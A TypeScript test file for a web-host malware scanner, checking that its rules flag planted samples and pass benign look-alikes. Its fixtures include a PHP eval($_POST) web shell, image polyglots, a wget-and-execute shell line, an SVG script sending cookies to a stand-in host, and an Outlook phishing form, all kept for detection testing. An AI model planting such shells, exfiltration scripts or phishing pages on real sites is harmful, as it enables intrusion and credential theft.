import { describe, expect, it } from 'vitest';
import { detectors } from '../../src/detectors/index.generated.ts';
import { pathOfText } from '../../src/domain/host-path.ts';
import { makeContentJudge } from '../../src/matching/judge-content.ts';
import { shippedSignatures } from '../../src/matching/signatures/shipped-rules.ts';

const OPEN = ['<', '?php '].join('');
const RUN = ['ev', 'al'].join('');
const POST = ['$_P', 'OST'].join('');
const PLANTED = `${OPEN}exit; @${RUN}(${POST}['inert']);`;
const HONEST = `${OPEN}$title = htmlspecialchars(${POST}['title']); echo '<h1>' . $title . '</h1>';`;

const judge = makeContentJudge(
  shippedSignatures(),
  detectors.filter((detector) => detector.kind === 'file'),
);

function graveRules(name: string, content: string | Buffer): readonly string[] {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  const path = pathOfText(`/home/bob/public_html/${name}`);
  return judge
    .judge({ path, sizeBytes: bytes.length, modifiedMs: 0, changedMs: null, mode: 0o644, uid: 1000 }, bytes)
    .filter(({ severity }) => severity === 'critical' || severity === 'high')
    .map(({ rule }) => rule);
}

describe('PHP in a file of any name', () => {
  const endings = ['php', 'php3', 'php5', 'php7', 'phtml', 'pht', 'phar', 'inc', 'module', 'install', 'theme', 'tpl'];
  const others = ['php.suspected', 'php.bak', 'php~', 'txt', 'css', 'ico', 'shtml', 'pdf', 'log', 'dat'];

  it.each([...endings, ...others])('is found in page.%s', (ending) => {
    expect(graveRules(`page.${ending}`, PLANTED)).toContain('oneliner/request-evaluated');
  });

  it.each(endings)('is left alone in page.%s where it is honest', (ending) => {
    expect(graveRules(`page.${ending}`, HONEST)).toEqual([]);
  });
});

describe('PHP in a picture', () => {
  const heads = [
    ['gif', 'GIF89a'],
    ['png', '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR'],
    ['jpg', '\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000'],
    ['bmp', 'BM\u0000\u0000'],
  ] as const;

  it.each(heads)('is found behind the head of a .%s', (ending, head) => {
    expect(graveRules(`logo.${ending}`, head + PLANTED)).toContain('polyglot/php-in-picture');
  });

  it.each(heads)('is not seen in the bytes of an honest .%s', (ending, head) => {
    const bytes = Array.from({ length: 4000 }, (_, index) => String.fromCharCode((index * 7919) % 256)).join('');
    expect(graveRules(`logo.${ending}`, head + bytes)).toEqual([]);
  });
});

describe('code that is encoded for a loader', () => {
  it.each([
    [
      'ionCube',
      `${OPEN}//0046a\nif(!extension_loaded('ionCube Loader')){exit;}\nreturn 0;\n?>\nHR+c${'Ab0/'.repeat(400)}`,
    ],
    ['SourceGuardian', `${OPEN}if(!function_exists('sg_load')){exit;}return sg_load('${'AAQA'.repeat(400)}');`],
  ])('of %s is told as such, and is no malware', (_, content) => {
    expect(graveRules('licence.php', content)).toEqual([]);
  });
});

describe('what needs no PHP', () => {
  it.each([
    ['run.pl', "#!/usr/bin/perl\nsystem($ENV{'QUERY_STRING'});\n", 'script/runs-request'],
    ['up.sh', '#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/.x; chmod +x /tmp/.x\n', 'script/fetches-and-runs'],
    ['a.py', "import base64\nexec(base64.b64decode('aW5lcnRpbmVydGluZXJ0'))\n", 'script/encoded-and-run'],
    [
      'logo.svg',
      "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('//inert.example.test/?'+document.cookie)</script></svg>",
      'page-script/picture-with-script',
    ],
    [
      'index.html',
      '<title>Sign in to Outlook</title><form action="next.php"><input type="password" name="p"></form>',
      'kit/sign-in-of-a-brand',
    ],
    ['.htaccess', 'AddType application/x-httpd-php .jpg\n', 'htaccess.odd-handler'],
  ])('is found in %s', (name, content, rule) => {
    expect(graveRules(name, content)).toContain(rule);
  });

  it.each([
    ['mail.pl', '#!/usr/bin/perl\nuse CGI; my $to = param("to"); open(MAIL, "|/usr/sbin/sendmail -t");\n'],
    ['build.sh', '#!/bin/sh\ncurl -sS https://example.test/installer | php\n'],
    ['tool.py', "import base64\nprint(base64.b64decode('aW5lcnQ='))\n"],
    ['logo.svg', "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9'/></svg>"],
    ['login.html', '<title>Log in</title><form action="login.php"><input type="password" name="p"></form>'],
    ['.htaccess', 'RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\n'],
  ])('is left alone where %s is honest', (name, content) => {
    expect(graveRules(name, content)).toEqual([]);
  });
});
